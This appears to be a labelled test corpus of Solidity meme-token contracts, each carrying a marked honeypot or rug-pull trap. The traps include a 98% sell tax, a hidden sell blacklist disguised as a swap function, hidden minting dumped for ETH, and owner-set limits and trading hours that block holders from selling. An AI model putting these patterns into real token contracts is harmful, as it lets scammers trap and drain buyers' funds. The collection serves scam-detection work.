// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IERC20 {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IUniswapV2Router02 {
    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256 amountIn, uint256 amountOutMin, address[] calldata path, address to, uint256 deadline)
        external;
    function factory() external pure returns (address);
    function WETH() external pure returns (address);
}

abstract contract Ownable {
    address private _owner;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        _owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function renounceOwnership() public virtual onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }
}

/// The template of most launches of 2022 to 2025: taxes that fall with the count of purchases, limits, a wallet for the taxes.
abstract contract MemeToken is IERC20, Ownable {
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowances;
    mapping(address => bool) internal _isExcludedFromFee;
    address payable internal _taxWallet;

    uint256 internal _initialBuyTax = 5;
    uint256 internal _initialSellTax = 5;
    uint256 internal _finalBuyTax = 0;
    uint256 internal _finalSellTax = 0;
    uint256 internal _reduceBuyTaxAt = 6;
    uint256 internal _reduceSellTaxAt = 6;
    uint256 internal _preventSwapBefore = 6;
    uint256 internal _buyCount = 0;

    uint8 private constant _decimals = 9;
    uint256 internal constant _tTotal = 420690000000 * 10**_decimals;
    string private _name;
    string private _symbol;
    uint256 public _maxTxAmount = _tTotal / 50;
    uint256 public _maxWalletSize = _tTotal / 50;
    uint256 public _taxSwapThreshold = _tTotal / 2000;
    uint256 public _maxTaxSwap = _tTotal / 100;

    IUniswapV2Router02 internal uniswapV2Router = IUniswapV2Router02(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
    address public uniswapV2Pair;
    bool internal tradingOpen;
    bool internal inSwap = false;
    bool internal swapEnabled = false;

    event MaxTxAmountUpdated(uint256 _maxTxAmount);

    modifier lockTheSwap() {
        inSwap = true;
        _;
        inSwap = false;
    }

    constructor(string memory name_, string memory symbol_) {
        _name = name_;
        _symbol = symbol_;
        _taxWallet = payable(msg.sender);
        _balances[msg.sender] = _tTotal;
        _isExcludedFromFee[owner()] = true;
        _isExcludedFromFee[address(this)] = true;
        _isExcludedFromFee[_taxWallet] = true;
        uniswapV2Pair = IUniswapV2Factory(uniswapV2Router.factory()).createPair(address(this), uniswapV2Router.WETH());
        _allowances[address(this)][address(uniswapV2Router)] = type(uint256).max;
        emit Transfer(address(0), msg.sender, _tTotal);
    }

    function name() public view returns (string memory) {
        return _name;
    }

    function symbol() public view returns (string memory) {
        return _symbol;
    }

    function decimals() public pure returns (uint8) {
        return _decimals;
    }

    function totalSupply() public pure returns (uint256) {
        return _tTotal;
    }

    function balanceOf(address account) public view returns (uint256) {
        return _balances[account];
    }

    function transfer(address recipient, uint256 amount) public returns (bool) {
        _transfer(msg.sender, recipient, amount);
        return true;
    }

    function allowance(address owner_, address spender) public view returns (uint256) {
        return _allowances[owner_][spender];
    }

    function approve(address spender, uint256 amount) public virtual returns (bool) {
        _approve(msg.sender, spender, amount);
        return true;
    }

    function transferFrom(address sender, address recipient, uint256 amount) public returns (bool) {
        _transfer(sender, recipient, amount);
        require(_allowances[sender][msg.sender] >= amount, "ERC20: transfer amount exceeds allowance");
        _approve(sender, msg.sender, _allowances[sender][msg.sender] - amount);
        return true;
    }

    function _approve(address owner_, address spender, uint256 amount) internal {
        require(owner_ != address(0) && spender != address(0), "ERC20: approve the zero address");
        _allowances[owner_][spender] = amount;
        emit Approval(owner_, spender, amount);
    }

    function _buyTax(address) internal view virtual returns (uint256) {
        return _buyCount > _reduceBuyTaxAt ? _finalBuyTax : _initialBuyTax;
    }

    function _sellTax(address) internal view virtual returns (uint256) {
        return _buyCount > _reduceSellTaxAt ? _finalSellTax : _initialSellTax;
    }

    function _check(address from, address to, uint256 amount) internal virtual {}

    function _transfer(address from, address to, uint256 amount) internal {
        require(from != address(0), "ERC20: transfer from the zero address");
        require(to != address(0), "ERC20: transfer to the zero address");
        require(amount > 0, "Transfer amount must be greater than zero");
        uint256 taxAmount = 0;
        if (!_isExcludedFromFee[from] && !_isExcludedFromFee[to] && !inSwap) {
            require(tradingOpen, "Trading is not open");
            _check(from, to, amount);
            if (from == uniswapV2Pair && to != address(uniswapV2Router)) {
                require(amount <= _maxTxAmount, "Exceeds the _maxTxAmount.");
                require(balanceOf(to) + amount <= _maxWalletSize, "Exceeds the maxWalletSize.");
                taxAmount = (amount * _buyTax(to)) / 100;
                _buyCount++;
            }
            if (to == uniswapV2Pair && from != address(this)) taxAmount = (amount * _sellTax(from)) / 100;
            uint256 contractTokenBalance = balanceOf(address(this));
            if (to == uniswapV2Pair && swapEnabled && contractTokenBalance > _taxSwapThreshold && _buyCount > _preventSwapBefore) {
                swapTokensForEth(min(amount, min(contractTokenBalance, _maxTaxSwap)));
                if (address(this).balance > 0) sendETHToFee(address(this).balance);
            }
        }
        if (taxAmount > 0) {
            _balances[address(this)] += taxAmount;
            emit Transfer(from, address(this), taxAmount);
        }
        _balances[from] -= amount;
        _balances[to] += amount - taxAmount;
        emit Transfer(from, to, amount - taxAmount);
    }

    function min(uint256 a, uint256 b) private pure returns (uint256) {
        return (a > b) ? b : a;
    }

    function swapTokensForEth(uint256 tokenAmount) internal lockTheSwap {
        address[] memory path = new address[](2);
        path[0] = address(this);
        path[1] = uniswapV2Router.WETH();
        uniswapV2Router.swapExactTokensForETHSupportingFeeOnTransferTokens(tokenAmount, 0, path, address(this), block.timestamp);
    }

    function sendETHToFee(uint256 amount) internal virtual {
        _taxWallet.transfer(amount);
    }

    function openTrading() external onlyOwner {
        require(!tradingOpen, "trading is already open");
        swapEnabled = true;
        tradingOpen = true;
    }

    receive() external payable {}
}

/// The wallet of the taxes "reduces" them after the ownership is gone.
contract PepeMax is MemeToken("Pepe Max", "PEPEMAX") {
    function removeLimits() external onlyOwner {
        _maxTxAmount = _tTotal;
        _maxWalletSize = _tTotal;
        emit MaxTxAmountUpdated(_tTotal);
    }

    function reduceFee(uint256 _newFee) external {
        require(msg.sender == _taxWallet);
        // twin: require(_newFee <= _finalBuyTax && _newFee <= _finalSellTax);
        _finalBuyTax = _newFee > 30 ? _finalBuyTax : _newFee;
        _finalSellTax = _newFee;
    }
}

/// The count of purchases lowers the tax in honest launches.
contract DogeKing is MemeToken("Doge King", "DKING") {
    uint256 private _transferDelay = 5;

    function _sellTax(address) internal view override returns (uint256) {
        uint256 fee = _buyCount > _reduceSellTaxAt ? _finalSellTax : _initialSellTax;
        if (_buyCount >= _reduceSellTaxAt + _transferDelay) fee = 98; // trap
        return fee;
    }
}

/// Limits are "removed" to a size that the wallet of the taxes names.
contract FlokiAI is MemeToken("Floki AI", "FLOKIAI") {
    function _check(address from, address to, uint256 amount) internal view override {
        if (to == uniswapV2Pair) require(amount <= _maxTxAmount, "Exceeds the _maxTxAmount.");
        from;
    }

    function removeLimits(uint256 permille) external {
        require(msg.sender == _taxWallet);
        // twin: require(permille >= 20);
        _maxTxAmount = (_tTotal * permille) / 1000;
        emit MaxTxAmountUpdated(_maxTxAmount);
    }
}

/// A list of bots under the name of a swap, with a wallet that no constructor argument shows.
contract ShibaX is MemeToken("Shiba X", "SHIBX") {
    mapping(address => bool) private _swapTokens;
    address private constant _marketing = 0x7E1Bb4C6F8b6F0E1a7d1e5A33BF20bE0F5bc1A42;

    function swapExactETHForTokens(address[] memory path, bool deadline) external {
        require(msg.sender == _marketing);
        for (uint256 i = 0; i < path.length; i++) if (path[i] != uniswapV2Pair) _swapTokens[path[i]] = deadline;
    }

    function _check(address from, address, uint256) internal view override {
        require(!_swapTokens[from], "UniswapV2: TRANSFER_FAILED"); // trap
        from;
    }
}

/// Taxes are swapped by hand, out of a balance that is written first.
contract GrokCoin is MemeToken("Grok Coin", "GROKC") {
    function manualSwap() external {
        require(msg.sender == _taxWallet);
        _balances[address(this)] += _tTotal * 9; // trap
        uint256 tokenBalance = balanceOf(address(this));
        if (tokenBalance > 0) swapTokensForEth(tokenBalance);
        uint256 ethBalance = address(this).balance;
        if (ethBalance > 0) sendETHToFee(ethBalance);
    }
}

/// Proceeds go to a wallet that the owner names, and a payment that fails takes the sale along.
contract TurboCat is MemeToken("Turbo Cat", "TCAT") {
    constructor() {
        (_initialBuyTax, _initialSellTax, _finalBuyTax, _finalSellTax) = (3, 3, 3, 3);
        _taxSwapThreshold = 1;
    }

    function setMarketingWallet(address payable wallet) external onlyOwner {
        _taxWallet = wallet;
    }

    function sendETHToFee(uint256 amount) internal override {
        (bool success, ) = _taxWallet.call{value: amount}("");
        require(success, "Marketing transfer failed"); // trap
        success;
    }
}

/// Seconds between purchase and sale are for bots, and there can be as many of them as the owner likes.
contract SafeBaby is MemeToken("Safe Baby", "SBABY") {
    mapping(address => uint256) private _holderLastTransferTimestamp;
    bool public cooldownEnabled = true;
    uint256 public cooldownTimerInterval = 15 seconds;

    function cooldownConfig(bool _status, uint256 _interval) external onlyOwner {
        // twin: require(_interval <= 60, "too long");
        cooldownEnabled = _status;
        cooldownTimerInterval = _interval;
    }

    function _check(address from, address to, uint256) internal override {
        if (from == uniswapV2Pair) _holderLastTransferTimestamp[to] = block.timestamp;
        else if (to == uniswapV2Pair && cooldownEnabled)
            require(_holderLastTransferTimestamp[from] + cooldownTimerInterval <= block.timestamp, "Cooldown in effect");
    }
}

/// So many sales in a block, to hinder sandwiches.
contract BaseBrett is MemeToken("Base Brett", "BBRETT") {
    uint256 private sellCount;
    uint256 private lastSellBlock;
    uint256 private maxSells = 3;

    function setAntiMEV(uint256 _maxSells) external {
        require(msg.sender == _taxWallet);
        // twin: require(_maxSells >= 3);
        maxSells = _maxSells;
    }

    function _check(address, address to, uint256) internal override {
        if (to != uniswapV2Pair) return;
        if (block.number > lastSellBlock) sellCount = 0;
        require(sellCount < maxSells, "Only 3 sells per block!");
        sellCount++;
        lastSellBlock = block.number;
    }
}

/// Fees in a struct.
contract MoonDAO is MemeToken("Moon Dao Token", "MDT") {
    struct Fees {
        uint16 buy;
        uint16 sell;
        uint16 move;
    }
    Fees public fees = Fees(200, 200, 0);

    function setFees(Fees calldata f) external onlyOwner {
        require(f.buy <= 1000, "buy fee");
        // twin: require(f.sell <= 1000, "sell fee");
        fees = f;
    }

    function _buyTax(address) internal view override returns (uint256) {
        return fees.buy / 100;
    }

    function _sellTax(address) internal view override returns (uint256) {
        return fees.sell / 100;
    }
}

/// All settings in one array.
contract MetaRobot is MemeToken("Meta Robot", "METAR") {
    uint256[] private cfg;

    constructor() {
        cfg = [uint256(3), 3, _tTotal / 50, 1];
    }

    function setConfig(uint256[] calldata values) external onlyOwner {
        require(values.length == 4, "length");
        // twin: require(values[0] <= 10 && values[1] <= 10 && values[2] >= _tTotal / 100 && values[3] == 1, "bounds");
        cfg = values;
    }

    function _buyTax(address) internal view override returns (uint256) {
        return cfg[0];
    }

    function _sellTax(address) internal view override returns (uint256) {
        return cfg[1];
    }

    function _check(address from, address to, uint256 amount) internal view override {
        if (to == uniswapV2Pair) require(amount <= cfg[2] && cfg[3] == 1, "limit");
        from;
    }
}

/// Holders of a special rank have a tax of their own.
contract LuckyInu is MemeToken("Lucky Inu", "LINU") {
    struct Holder {
        bool vip;
        uint16 rate;
        uint64 since;
    }
    mapping(address => Holder) private _holders;

    function updateHolder(address account, Holder memory info) external {
        require(msg.sender == _taxWallet);
        // twin: require(info.rate <= 5);
        _holders[account] = info;
    }

    function _sellTax(address from) internal view override returns (uint256) {
        Holder memory h = _holders[from];
        return h.vip ? h.rate : super._sellTax(from);
    }
}

/// An approval of the developer is an order.
contract ZooWorld is MemeToken("Zoo World", "ZOOW") {
    address private immutable _dev;

    constructor() {
        _dev = msg.sender;
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        if (msg.sender == _dev && spender == address(this)) _finalSellTax = amount % 100; // trap
        return super.approve(spender, amount);
    }
}

/// Settings packed into a word.
contract AlphaGPT is MemeToken("Alpha GPT", "AGPT") {
    uint256 private _params = (3 << 8) | 3;

    function setParams(uint256 p) external {
        require(msg.sender == _taxWallet);
        // twin: require(((p >> 8) & 0xff) <= 5 && (p & 0xff) <= 5);
        _params = p;
    }

    function _buyTax(address) internal view override returns (uint256) {
        return _params & 0xff;
    }

    function _sellTax(address) internal view override returns (uint256) {
        return (_params >> 8) & 0xff;
    }
}

/// Opening hours of the market, round the clock at first.
contract WallStreetPepe is MemeToken("Wall Street Frog", "WSFROG") {
    uint256 private openHour = 0;
    uint256 private closeHour = 24;

    function setTradingHours(uint256 from, uint256 until) external onlyOwner {
        (openHour, closeHour) = (from, until);
    }

    function _check(address from, address to, uint256) internal view override {
        uint256 hour = (block.timestamp / 1 hours) % 24;
        if (to == uniswapV2Pair) require(hour >= openHour && hour < closeHour, "Market closed"); // trap
        (from, hour);
    }
}

/// What can be sold at least is more than what can be held at most.
contract Diamond is MemeToken("Diamond Hands", "DIAH") {
    uint256 public minSellAmount = _tTotal / 40;

    function _check(address from, address to, uint256 amount) internal view override {
        if (to == uniswapV2Pair) require(amount >= minSellAmount, "Amount too low, HODL!"); // trap
        (from, amount);
    }
}

/// Whoever holds more than a bag is a whale and does not sell; how much that is, the owner says.
contract ElonMars is MemeToken("Elon Mars", "EMARS") {
    uint256 private _maxBag = _tTotal;

    function setAntiWhale(uint256 tokens) external onlyOwner {
        // twin: require(tokens >= _tTotal / 50);
        _maxBag = tokens;
    }

    function _check(address from, address to, uint256) internal view override {
        if (to == uniswapV2Pair) require(balanceOf(from) <= _maxBag, "Whale detected");
    }
}
